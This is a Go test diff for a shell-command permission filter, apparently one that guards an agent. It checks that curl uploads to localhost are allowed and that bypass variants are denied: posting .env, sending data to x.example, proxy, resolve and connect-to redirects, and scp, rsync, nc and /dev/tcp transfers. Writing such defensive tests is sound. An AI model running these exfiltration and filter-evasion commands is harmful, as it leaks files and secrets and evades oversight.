@@ -777,3 +777,38 @@ func TestBuiltinKnownExpansions(t *testing.T) {
 		{`X=.Env; cat ${X,,}`, Deny, "sensitive-reads-files"},
 	})
 }
+
+// TestBuiltinLoopbackUploads: posting files to a server on this machine
+// (a development server on localhost) is not exfiltration, when every
+// destination is statically known and loopback and nothing may redirect
+// the request; a secret sent there is still a read.
+func TestBuiltinLoopbackUploads(t *testing.T) {
+	post := "exfiltration-post-files"
+	checkBuiltins(t, []bypassCase{
+		{`curl -X POST http://localhost:3000/users -H 'Content-Type: application/json' -d @tests/fixtures/user.json`, Allow, ""},
+		{`curl -F 'file=@tests/fixtures/avatar.png' http://127.0.0.1:3000/upload`, Allow, ""},
+		{`curl -s -X POST localhost:8080/graphql --data-binary @query.json | jq .`, Allow, ""},
+		{`curl -T dist/app.tgz http://127.0.0.2:9000/up`, Allow, ""},
+		{`curl -d @.env localhost:3000`, Deny, "sensitive-reads-files"},
+		{`curl -d @f localhost:3000 https://x.example`, Deny, post},
+		{`curl -d @f http://localhost.x.example/`, Deny, post},
+		{`curl -d @f localhost -x x.example:80`, Deny, post},
+		{`curl -d @f localhost --preproxy x.example`, Deny, post},
+		{`curl -d @f localhost --socks5-hostname x.example`, Deny, post},
+		{`curl -d @f localhost --resolve localhost:80:203.0.113.9`, Deny, post},
+		{`curl -d @f localhost --connect-to localhost:80:x.example:80`, Deny, post},
+		{`http_proxy=http://x.example curl -d @f localhost`, Deny, post},
+		{`env HOME=. curl -d @f localhost`, Deny, "destructive-unknown-command"},
+		{`export ALL_PROXY=x.example; curl -d @f localhost`, Deny, post},
+		{`CURL_HOME=. curl -d @f localhost`, Deny, post},
+		{`curl -d @f "$HOST"`, Deny, post},
+		{`curl -d @f -K cfg localhost`, Deny, "destructive-unknown-command"},
+		{`curl -d @f`, Deny, post},
+		{`scp f localhost:/tmp/`, Deny, post},
+		{`rsync -a f localhost:/tmp/`, Deny, post},
+		{`nc localhost 80 < f`, Deny, post},
+		{`cat /dev/null > /dev/tcp/127.0.0.1/80`, Deny, "writes-outside-repo"},
+		{`cat < /dev/tcp/127.0.0.1/80`, Deny, post},
+		{`git push localhost:x; curl -d @f localhost`, Deny, post},
+	})
+}
